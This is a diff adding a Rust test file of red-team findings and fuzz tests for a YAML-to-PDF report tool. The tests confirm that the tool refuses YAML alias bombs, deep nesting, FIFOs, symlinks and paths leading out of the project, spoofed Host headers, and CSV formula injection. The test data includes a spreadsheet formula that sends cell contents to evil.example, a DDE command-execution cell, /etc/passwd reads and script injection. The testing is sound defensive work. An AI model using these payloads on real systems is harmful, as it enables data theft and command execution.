@@ -1,0 +1,756 @@
+//! Hostile input (issue 23): each test is one finding of a red-team pass, reproduced on a copy of
+//! the bundled project; then generated input (random bytes, random YAML, hostile lines) for each
+//! of the six content files, which must end in a PDF or in diagnostics with file and line.
+
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::time::Duration;
+
+use proptest::prelude::*;
+
+use crate::common::{self, project, replace_in};
+
+fn oit025(dir: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_oit025"))
+        .current_dir(dir)
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+/// Runs `oit025 args` with at most 4 GB of address space, so that a regression that expands
+/// input without bound fails the test instead of exhausting the machine.
+fn oit025_limited(dir: &Path, args: &[&str]) -> Output {
+    Command::new("sh")
+        .current_dir(dir)
+        .arg("-c")
+        .arg("ulimit -v 4000000; exec \"$0\" \"$@\"")
+        .arg(env!("CARGO_BIN_EXE_oit025"))
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+/// Asserts a refused run: exit code 1 (not a panic's 101 or a signal), no panic message, and
+/// `wanted` in what it printed.
+fn assert_refused(out: &Output, wanted: &[&str]) {
+    let err = stderr(out);
+    // Hostile lines are long: a screenful of what was printed is enough to see why.
+    let shown: String = err.chars().take(3000).collect();
+    assert_eq!(out.status.code(), Some(1), "{shown}");
+    assert!(!err.contains("panicked"), "{shown}");
+    for w in wanted {
+        assert!(err.contains(w), "{w:?} not in:\n{shown}");
+    }
+}
+
+/// Finding 1: an anchor of 500,000 bytes repeated by 100,000 aliases is 0.9 MB of YAML that
+/// expands to 50 GB.
+#[test]
+fn aliases_expanding_to_gigabytes_are_refused_at_their_line() {
+    let dir = project();
+    let agency = dir.path().join("content/2569/agency.yaml");
+    let big = "x".repeat(500_000);
+    let aliases = vec!["*a"; 100_000].join(",");
+    replace_in(
+        &agency,
+        "  glossary: []",
+        &format!("  other_abbreviations: [&a \"{big}\"]\n  glossary: [{aliases}]"),
+    );
+    assert!(std::fs::metadata(&agency).unwrap().len() < 1024 * 1024);
+    let out = oit025_limited(dir.path(), &["check"]);
+    assert_refused(
+        &out,
+        &[
+            "content/2569/agency.yaml:19:",
+            "once its aliases (*) are expanded",
+            "แทน alias",
+        ],
+    );
+}
+
+/// The alias count alone is bounded too, with small anchors.
+#[test]
+fn more_than_a_thousand_aliases_are_refused() {
+    let dir = project();
+    let agency = dir.path().join("content/2569/agency.yaml");
+    let aliases = vec!["*a"; 1001].join(",");
+    replace_in(
+        &agency,
+        "  glossary: []",
+        &format!("  other_abbreviations: [&a กขค]\n  glossary: [{aliases}]"),
+    );
+    let out = oit025(dir.path(), &["check"]);
+    assert_refused(
+        &out,
+        &["content/2569/agency.yaml:19:", "more than 1000 aliases"],
+    );
+}
+
+/// Finding 2: deeply nested flow collections took time quadratic in their depth (50,000 levels:
+/// 9 s; a 1 MB file: about 20 minutes). They are refused at the first level past the budget.
+#[test]
+fn deep_nesting_is_refused_at_its_line() {
+    let dir = project();
+    let scores = dir.path().join("content/2569/scores.yaml");
+    let text = std::fs::read_to_string(&scores).unwrap();
+    let cut = text.find("\nquestions:").unwrap();
+    let n = 50_000;
+    let nested = format!(
+        "{}\nquestions: {}{}\n",
+        &text[..cut],
+        "[".repeat(n),
+        "]".repeat(n)
+    );
+    std::fs::write(&scores, &nested).unwrap();
+    let line = nested[..cut].matches('\n').count() + 2;
+    let at = format!("content/2569/scores.yaml:{line}:");
+    let out = oit025(dir.path(), &["check"]);
+    assert_refused(&out, &[&at, "nested deeper than 32 levels", "ซ้อนกันลึกเกิน"]);
+    // The budget is the depth, not the shape: 32 levels pass it, and serde_yaml reports what
+    // is wrong with them.
+    let n = 31;
+    let nested = format!(
+        "{}\nquestions: {}{}\n",
+        &text[..cut],
+        "[".repeat(n),
+        "]".repeat(n)
+    );
+    std::fs::write(&scores, &nested).unwrap();
+    let out = oit025(dir.path(), &["check"]);
+    assert_refused(&out, &["content/2569/scores.yaml:", "invalid type"]);
+    assert!(!stderr(&out).contains("nested deeper"), "{}", stderr(&out));
+}
+
+/// Finding 3: a FIFO as a content file blocked `check` for ever.
+#[test]
+fn a_fifo_as_content_file_is_refused_not_waited_on() {
+    let dir = project();
+    let scores = dir.path().join("content/2569/scores.yaml");
+    std::fs::remove_file(&scores).unwrap();
+    let made = common::output(Command::new("mkfifo").arg(&scores));
+    assert!(made.status.success());
+    let child = Command::new(env!("CARGO_BIN_EXE_oit025"))
+        .current_dir(dir.path())
+        .arg("check")
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let out = watchdog(Duration::from_secs(60), move || {
+        child.wait_with_output().unwrap()
+    })
+    .unwrap_or_else(|| {
+        // Whatever is left of it is ended with the test process; opening the FIFO for
+        // writing lets it go.
+        let _ = std::fs::OpenOptions::new().write(true).open(&scores);
+        panic!("check waited on the FIFO for a minute");
+    });
+    assert_refused(
+        &out,
+        &[
+            "content/2569/scores.yaml",
+            "not a regular file",
+            "ไม่ใช่ไฟล์ธรรมดา",
+        ],
+    );
+}
+
+/// Finding 4: a year folder far outside the Buddhist Era panicked in the date arithmetic.
+#[test]
+fn a_year_outside_the_buddhist_era_is_an_error_not_a_panic() {
+    let dir = project();
+    common::copy_dir(
+        &dir.path().join("content/2569"),
+        &dir.path().join("content/300000"),
+    );
+    for args in [
+        &["check", "--year", "300000"][..],
+        &["check", "--all"],
+        &["build", "--year", "300000"],
+    ] {
+        let out = oit025(dir.path(), args);
+        assert_refused(
+            &out,
+            &[
+                "content/300000",
+                "fiscal year 300000 is not valid",
+                "2400 to 2999",
+            ],
+        );
+    }
+    assert!(!dir.path().join("output/300000").exists());
+}
+
+/// Finding 5: `--emit-typst` wrote over the sealed PDF before the seal refused the build, and
+/// `--out` could name a content file.
+#[test]
+fn no_output_may_be_a_sealed_file_or_a_source() {
+    let dir = project();
+    let root = dir.path();
+    assert!(oit025(root, &["archive"]).status.success());
+    let pdf = root.join("output/2569/oit025-2569.pdf");
+    let sealed = std::fs::read(&pdf).unwrap();
+    let agency = root.join("content/2569/agency.yaml");
+    let source = std::fs::read(&agency).unwrap();
+    let refused = "will not write here";
+
+    // An unchanged sealed year: its PDF is identical, and still not written over a source.
+    let out = oit025(root, &["build", "--out", "content/2569/agency.yaml"]);
+    assert_refused(&out, &[refused]);
+    assert_eq!(std::fs::read(&agency).unwrap(), source);
+    let out = oit025(root, &["build", "--out", "content/2569/../2569/new.pdf"]);
+    assert_refused(&out, &[refused]);
+    assert!(!root.join("content/2569/new.pdf").exists());
+
+    // After an edit: neither the Typst source nor the PDF lands on the sealed PDF.
+    replace_in(&agency, "items:", "items:\n    - แก้หลังปิดผนึก");
+    let out = oit025(
+        root,
+        &["build", "--emit-typst", "output/2569/oit025-2569.pdf"],
+    );
+    assert_refused(&out, &[refused]);
+    assert_eq!(std::fs::read(&pdf).unwrap(), sealed);
+    let out = oit025(root, &["build", "--emit-typst", "content/2569/r.typ"]);
+    assert_refused(&out, &[refused]);
+    assert!(!root.join("content/2569/r.typ").exists());
+
+    // The site may not go into content/ either.
+    let out = oit025(root, &["publish", "--out", "content/site"]);
+    assert_refused(&out, &[refused]);
+    assert!(!root.join("content/site").exists());
+    assert_eq!(std::fs::read(&pdf).unwrap(), sealed);
+}
+
+/// Finding 6: the template loader followed symlinks out of the project, file by file and for
+/// `templates/` as a whole.
+#[test]
+fn templates_are_never_read_outside_the_project() {
+    let outside = tempfile::tempdir().unwrap();
+    let secret = outside.path().join("secret.typ");
+    std::fs::write(&secret, "SECRET-OUTSIDE-THE-PROJECT").unwrap();
+
+    let dir = project();
+    let templates = dir.path().join("templates");
+    std::os::unix::fs::symlink(&secret, templates.join("o.typ")).unwrap();
+    let report = std::fs::read_to_string(templates.join("report.typ")).unwrap();
+    std::fs::write(
+        templates.join("report.typ"),
+        format!("{report}\n{{% include \"o.typ\" %}}\n"),
+    )
+    .unwrap();
+    let out = oit025(dir.path(), &["build", "--emit-typst", "r.typ"]);
+    assert_refused(&out, &["o.typ", "outside the project"]);
+    assert!(!dir.path().join("r.typ").exists());
+
+    // templates/ itself a symlink to a folder outside, holding a complete set of templates.
+    let dir = project();
+    let templates = dir.path().join("templates");
+    let elsewhere = outside.path().join("templates");
+    common::copy_dir(&templates, &elsewhere);
+    replace_in(
+        &elsewhere.join("report.typ"),
+        "\n",
+        "\nSECRET-OUTSIDE-THE-PROJECT\n",
+    );
+    std::fs::remove_dir_all(&templates).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, &templates).unwrap();
+    let out = oit025(dir.path(), &["build", "--emit-typst", "r.typ"]);
+    assert_refused(&out, &["outside the project"]);
+    assert!(!dir.path().join("r.typ").exists());
+}
+
+/// Finding 7: `verify` hashed whatever file a seal named.
+#[test]
+fn verify_reads_only_the_projects_own_output() {
+    let outside = tempfile::tempdir().unwrap();
+    let secret = outside.path().join("secret.pdf");
+    std::fs::write(&secret, "not the report").unwrap();
+    let dir = project();
+    let root = dir.path();
+    assert!(oit025(root, &["archive"]).status.success());
+    let seal = root.join("content/2569/sealed.yaml");
+    let sealed = std::fs::read_to_string(&seal).unwrap();
+    let link = root.join("output/2569/link.pdf");
+    std::os::unix::fs::symlink(&secret, &link).unwrap();
+    let fifo = root.join("output/2569/fifo.pdf");
+    assert!(
+        common::output(Command::new("mkfifo").arg(&fifo))
+            .status
+            .success()
+    );
+    let named = [
+        (secret.to_str().unwrap(), "outside the project's output/"),
+        ("output/../../secret.pdf", "outside the project's output/"),
+        ("content/2569/agency.yaml", "outside the project's output/"),
+        ("output/2569/link.pdf", "file points outside the project"),
+        ("output/2569/fifo.pdf", "not a regular file"),
+    ];
+    for (path, why) in named {
+        std::fs::write(
+            &seal,
+            sealed.replace(
+                "path: output/2569/oit025-2569.pdf",
+                &format!("path: {path}"),
+            ),
+        )
+        .unwrap();
+        let child = Command::new(env!("CARGO_BIN_EXE_oit025"))
+            .current_dir(root)
+            .arg("verify")
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let out = watchdog(Duration::from_secs(60), move || {
+            child.wait_with_output().unwrap()
+        })
+        .unwrap_or_else(|| {
+            let _ = std::fs::OpenOptions::new().write(true).open(&fifo);
+            panic!("verify waited on {path} for a minute");
+        });
+        assert_refused(&out, &[why, "content/2569/sealed.yaml"]);
+    }
+}
+
+/// Finding 8: text that a spreadsheet reads as a formula reached the CSV files as it was.
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
+    let dir = project();
+    let root = dir.path();
+    let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let steps = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
+    let name = "=cmd|' /C calc'!A0";
+    let measures = root.join("content/2569/measures.yaml");
+    replace_in(
+        &measures,
+        "title: พัฒนาประสิทธิภาพการปฏิบัติงานของเจ้าหน้าที่ สลน.",
+        &format!("title: '{title}'"),
+    );
+    replace_in(
+        &measures,
+        "      - สำรวจความต้องการ",
+        &format!(
+            "      - \"{}\"\n      - \"{}\"\n      - \"{}\"\n      - สำรวจความต้องการ",
+            steps[0], steps[1], steps[2]
+        ),
+    );
+    replace_in(
+        &root.join("content/2569/assessment.yaml"),
+        "name: การปฏิบัติหน้าที่",
+        &format!("name: \"{name}\""),
+    );
+    let out = oit025(root, &["publish"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let site = root.join("output/site/2569");
+    let cells = |file: &str| -> Vec<String> {
+        let mut reader = csv::Reader::from_path(site.join(file)).unwrap();
+        reader
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect()
+    };
+    let measures_csv = cells("measures.csv");
+    assert!(
+        measures_csv.contains(&format!("'{title}")),
+        "{measures_csv:?}"
+    );
+    let steps_cell = measures_csv.iter().find(|c| c.contains("@SUM")).unwrap();
+    assert!(
+        steps_cell.starts_with(&format!("'{}\n", steps[0])),
+        "{steps_cell:?}"
+    );
+    assert!(cells("scores.csv").contains(&format!("'{name}")));
+    for cell in measures_csv.iter().chain(&cells("scores.csv")) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would run in a spreadsheet"
+        );
+    }
+    // The JSON is data for programs: it keeps the text exactly.
+    let data = std::fs::read_to_string(site.join("data.json")).unwrap();
+    let data: serde_json::Value = serde_json::from_str(&data).unwrap();
+    assert_eq!(data["measures"][0]["title"], title);
+    assert_eq!(data["measures"][1]["steps"][0], steps[0]);
+    assert_eq!(data["measures"][1]["steps"][2], steps[2]);
+    assert_eq!(data["indicators"][0]["name"], name);
+}
+
+/// GET with a given Host header: the status code.
+fn status_for_host(port: u16, host: Option<&str>) -> u16 {
+    use std::io::{Read, Write};
+    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
+    let host = host.map_or(String::new(), |h| format!("Host: {h}\r\n"));
+    write!(stream, "GET /report.pdf HTTP/1.0\r\n{host}\r\n").unwrap();
+    let mut raw = Vec::new();
+    stream.read_to_end(&mut raw).unwrap();
+    let head = String::from_utf8_lossy(&raw[..raw.len().min(64)]).into_owned();
+    head.split(' ').nth(1).unwrap().parse().unwrap()
+}
+
+/// Finding 9: the preview answered any Host, so a page of another site that rebinds its name to
+/// 127.0.0.1 could read the report.
+#[test]
+fn the_preview_answers_only_its_own_host() {
+    use std::io::BufRead;
+    let dir = project();
+    let mut child = Command::new(env!("CARGO_BIN_EXE_oit025"))
+        .current_dir(dir.path())
+        .args(["watch", "--serve", "--port", "0"])
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut lines = std::io::BufReader::new(child.stderr.take().unwrap()).lines();
+    let port: u16 = loop {
+        let line = lines.next().expect("watch ended").unwrap();
+        if let Some(at) = line.find("http://127.0.0.1:") {
+            let rest = &line[at + "http://127.0.0.1:".len()..];
+            break rest.trim_end_matches('/').parse().unwrap();
+        }
+    };
+    std::thread::spawn(move || lines.for_each(drop));
+    let own = [format!("127.0.0.1:{port}"), format!("localhost:{port}")];
+    let codes: Vec<(String, u16)> = [
+        Some("evil.example".to_string()),
+        Some(format!("evil.example:{port}")),
+        Some("127.0.0.1.evil.example".to_string()),
+        Some(format!("127.0.0.1:{}", port.wrapping_add(1))),
+        None,
+        Some(own[0].clone()),
+        Some(own[1].clone()),
+    ]
+    .into_iter()
+    .map(|h| (format!("{h:?}"), status_for_host(port, h.as_deref())))
+    .collect();
+    child.kill().unwrap();
+    let _ = child.wait();
+    let (refused, answered) = codes.split_at(5);
+    assert!(refused.iter().all(|(_, c)| *c == 403), "{codes:?}");
+    assert!(answered.iter().all(|(_, c)| *c == 200), "{codes:?}");
+}
+
+/// Finding 10: in a batch of projects a failure did not say whose it was, and one missing folder
+/// stopped the whole batch before anything was built.
+#[test]
+fn a_projects_batch_names_each_failure_and_goes_on() {
+    let parent = tempfile::tempdir().unwrap();
+    for name in ["กรมดี", "กรมเสีย"] {
+        let out = oit025(parent.path(), &["init", name, "--agency", name]);
+        assert!(out.status.success(), "{}", stderr(&out));
+    }
+    replace_in(
+        &parent.path().join("กรมเสีย/content/2569/scores.yaml"),
+        "assessed_year: 2568",
+        "assessed_year: 2568x",
+    );
+    std::fs::write(
+        parent.path().join("agencies.txt"),
+        "กรมดี\nกรมเสีย\nกรมที่ไม่มี\n",
+    )
+    .unwrap();
+    let out = oit025(
+        parent.path(),
+        &["build", "--projects", "agencies.txt", "--jobs", "1"],
+    );
+    assert_refused(
+        &out,
+        &[
+            "กรมเสีย/content/2569/scores.yaml:",
+            "กรมเสีย: 2569 failed",
+            "กรมเสีย ปี 2569 ไม่สำเร็จ",
+            "กรมที่ไม่มี/content",
+            "กรมที่ไม่มี failed",
+            "built 1 of 3 reports",
+        ],
+    );
+    assert!(
+        parent
+            .path()
+            .join("กรมดี/output/2569/oit025-2569.pdf")
+            .is_file()
+    );
+    assert!(!parent.path().join("กรมเสีย/output/2569").exists());
+}
+
+/// Finding 11: a build killed between writing its temporary file and renaming it left the file
+/// in output/<year>/ for ever.
+#[test]
+fn a_killed_builds_temporary_files_are_removed_by_the_next_build() {
+    let dir = project();
+    let out_dir = dir.path().join("output/2569");
+    std::fs::create_dir_all(&out_dir).unwrap();
+    let stale = out_dir.join(".oit025-killed.tmp");
+    let fresh = out_dir.join(".oit025-running.tmp");
+    for path in [&stale, &fresh] {
+        std::fs::write(path, b"%PDF-1.7 half").unwrap();
+    }
+    let ten_minutes_ago = std::time::SystemTime::now() - Duration::from_secs(600);
+    std::fs::File::options()
+        .write(true)
+        .open(&stale)
+        .unwrap()
+        .set_modified(ten_minutes_ago)
+        .unwrap();
+    let out = oit025(dir.path(), &["build"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(!stale.exists(), "the killed build's file is still there");
+    // A young one may belong to a build running now: it stays.
+    assert!(fresh.exists());
+}
+
+/// Runs `f` on a thread of its own and waits for it at most `limit`; `None` if it did not end.
+fn watchdog<T: Send + 'static>(
+    limit: Duration,
+    f: impl FnOnce() -> T + Send + 'static,
+) -> Option<T> {
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = tx.send(f());
+    });
+    rx.recv_timeout(limit).ok()
+}
+
+/// Hostile lines: YAML features the files never need, markup of the later stages, text that
+/// trips spreadsheets, and characters YAML forbids.
+const HOSTILE: &[&str] = &[
+    "a: &a [x, x, x, x, x, x, x, x, x, x]",
+    "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]",
+    "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]",
+    "<<: *a",
+    "*undefined",
+    "? [complex, key]",
+    "x: !!binary aGVsbG8=",
+    "x: !custom {a: 1}",
+    "%YAML 1.1",
+    "---",
+    "...",
+    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]",
+    "{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{",
+    "\t- tab indented",
+    "  - '=HYPERLINK(\"http://evil.example\")'",
+    "  - \"#import \\\"/etc/passwd\\\"\"",
+    "  - '{{ 7 * 7 }} {% include \"report.typ\" %}'",
+    "  - \"\\u0000\\u202E\\uFEFF\"",
+    "\u{FEFF}agency: x",
+    "name: \u{7}\u{1b}[31m",
+    "date: 99999-12-31",
+    "report_deadline: 2026-02-30",
+    "assessed_year: 2147483647",
+    "previous: 1e400",
+    "current: .nan",
+    "indicator: 256",
+    "indicator: -1",
+    "  - id: staff-performance",
+    "key: value: other",
+    "'unterminated",
+    "|",
+    ">-",
+    "&",
+    "!",
+];
+
+/// Text that means something to a later stage (minijinja, typst, HTML, a spreadsheet, a bidi
+/// renderer), put in a value where the files hold text: it must print as text or be refused.
+const HOSTILE_TEXT: &[&str] = &[
+    "{{ 7 * 7 }} {% include \"report.typ\" %} {# x",
+    "#import \"/etc/passwd\": * #read(\"/etc/passwd\")",
+    "#{ panic() } $ x^2 $ *bold* _em_ `raw` <label> @ref",
+    "] ) } \\ // /* \"",
+    "</td></table><script>alert(1)</script>&amp;",
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "\u{202E}txt.exe \u{200B}\u{FEFF}\u{00AD}",
+    "ก\u{0E31}\u{0E31}\u{0E31}\u{0E31} ๑๒๓ ๆๆๆ",
+    "",
+    "                                                  ",
+];
+
+/// A YAML value as text, from a generated tree.
+fn yaml_tree() -> impl Strategy<Value = serde_json::Value> {
+    let leaf = prop_oneof![
+        Just(serde_json::Value::Null),
+        any::<bool>().prop_map(serde_json::Value::from),
+        any::<i64>().prop_map(serde_json::Value::from),
+        (0.0..200.0f64).prop_map(serde_json::Value::from),
+        "\\PC{0,20}".prop_map(serde_json::Value::from),
+        prop::sample::select(vec![
+            "agency",
+            "units",
+            "measures",
+            "period",
+            "2025-10-01",
+            "IIT",
+            "EIT",
+            "OIT",
+        ])
+        .prop_map(serde_json::Value::from),
+    ];
+    leaf.prop_recursive(6, 64, 6, |inner| {
+        prop_oneof![
+            prop::collection::vec(inner.clone(), 0..6).prop_map(serde_json::Value::Array),
+            prop::collection::btree_map(
+                prop::sample::select(vec![
+                    "agency",
+                    "name",
+                    "units",
+                    "code",
+                    "measures",
+                    "id",
+                    "title",
+                    "steps",
+                    "period",
+                    "start",
+                    "end",
+                    "indicators",
+                    "indicator",
+                    "questions",
+                    "score",
+                    "analysis",
+                    "findings",
+                    "recommendations",
+                    "threshold",
+                    "weights",
+                    "x",
+                ])
+                .prop_map(str::to_string),
+                inner,
+                0..6,
+            )
+            .prop_map(|m| serde_json::Value::Object(m.into_iter().collect())),
+        ]
+    })
+}
+
+/// Builds the bundled project with `file` (one of the six) replaced by `bytes`, in this
+/// process, under a watchdog. It must end in a PDF, or in errors that each point at a file and
+/// a line (a panic caught by the build is an internal error: never acceptable here).
+fn builds_or_points_at_the_problem(file: usize, bytes: Vec<u8>) -> Result<(), TestCaseError> {
+    let dir = project();
+    let name = oit025::content::FILES[file];
+    std::fs::write(dir.path().join("content/2569").join(name), &bytes).unwrap();
+    let root = dir.path().to_path_buf();
+    let outcome = watchdog(Duration::from_secs(60), move || {
+        let cfg = oit025::build::BuildConfig::new(
+            root,
+            Some(2569),
+            None,
+            None,
+            oit025::template::Digits::Thai,
+        )
+        .unwrap();
+        let mut sources = oit025::diag::SourceMap::default();
+        let result = oit025::build::produce(&cfg, &mut sources);
+        result.map(|(pdf, _)| pdf.len()).map_err(|d| {
+            let located =
+                d.0.iter()
+                    .filter(|d| d.is_error())
+                    .map(|d| {
+                        let at = d.location.as_ref().map(|l| {
+                            let (line, _) = sources.line_col(l.file, l.range.start);
+                            (sources.name(l.file).display().to_string(), line)
+                        });
+                        (d.message.en.clone(), at)
+                    })
+                    .collect::<Vec<_>>();
+            (located, sources.render(&d.0))
+        })
+    });
+    let Some(outcome) = outcome else {
+        return Err(TestCaseError::fail(format!("{name}: no end within 60 s")));
+    };
+    match outcome {
+        Ok(pdf) => prop_assert!(pdf > 1000),
+        Err((errors, rendered)) => {
+            prop_assert!(!errors.is_empty(), "{rendered}");
+            for (message, at) in errors {
+                prop_assert!(!message.contains("internal error"), "{rendered}");
+                let Some((file, line)) = at else {
+                    return Err(TestCaseError::fail(format!(
+                        "an error without a file and line: {rendered}"
+                    )));
+                };
+                prop_assert!(file.starts_with("content/") || file.starts_with("templates/"));
+                prop_assert!(line >= 1);
+            }
+        }
+    }
+    Ok(())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 32, ..ProptestConfig::default() })]
+
+    #[test]
+    fn random_bytes_end_in_a_pdf_or_a_located_error(
+        file in 0..6usize,
+        bytes in prop::collection::vec(any::<u8>(), 0..2048),
+    ) {
+        builds_or_points_at_the_problem(file, bytes)?;
+    }
+
+    #[test]
+    fn random_yaml_ends_in_a_pdf_or_a_located_error(file in 0..6usize, tree in yaml_tree()) {
+        let text = serde_yaml::to_string(&tree).unwrap();
+        builds_or_points_at_the_problem(file, text.into_bytes())?;
+    }
+
+    #[test]
+    fn hostile_text_in_values_ends_in_a_pdf_or_a_located_error(
+        file in 0..6usize,
+        at in any::<prop::sample::Index>(),
+        text in prop::sample::select(HOSTILE_TEXT),
+        repeat in 1..200usize,
+    ) {
+        let path = common::manifest_dir()
+            .join("content/2569")
+            .join(oit025::content::FILES[file]);
+        let original = std::fs::read_to_string(path).unwrap();
+        let mut lines: Vec<String> = original.lines().map(str::to_string).collect();
+        // Lines holding a value: `key: value` or `- value`, not comments.
+        let values: Vec<usize> = (0..lines.len())
+            .filter(|&k| {
+                let t = lines[k].trim_start();
+                !t.starts_with('#') && (t.starts_with("- ") || t.contains(": "))
+            })
+            .collect();
+        let k = values[at.index(values.len())];
+        let line = &lines[k];
+        let cut = line.find(": ").map_or_else(|| line.find("- ").unwrap() + 2, |i| i + 2);
+        // A JSON string is a YAML double-quoted scalar.
+        let value = serde_json::to_string(&text.repeat(repeat)).unwrap();
+        lines[k] = format!("{}{value}", &line[..cut]);
+        builds_or_points_at_the_problem(file, (lines.join("\n") + "\n").into_bytes())?;
+    }
+
+    #[test]
+    fn hostile_lines_end_in_a_pdf_or_a_located_error(
+        file in 0..6usize,
+        edits in prop::collection::vec(
+            (any::<prop::sample::Index>(), prop::sample::select(HOSTILE), any::<bool>()),
+            1..4,
+        ),
+    ) {
+        let path = common::manifest_dir()
+            .join("content/2569")
+            .join(oit025::content::FILES[file]);
+        let mut lines: Vec<String> = std::fs::read_to_string(path)
+            .unwrap()
+            .lines()
+            .map(str::to_string)
+            .collect();
+        for (at, hostile, replace) in edits {
+            let k = at.index(lines.len());
+            // Kept at the indentation of the line it goes to, so that it lands inside the
+            // structure rather than only breaking it.
+            let indent: String = lines[k].chars().take_while(|c| *c == ' ').collect();
+            let line = format!("{indent}{hostile}");
+            if replace {
+                lines[k] = line;
+            } else {
+                lines.insert(k, line);
+            }
+        }
+        builds_or_points_at_the_problem(file, (lines.join("\n") + "\n").into_bytes())?;
+    }
+}
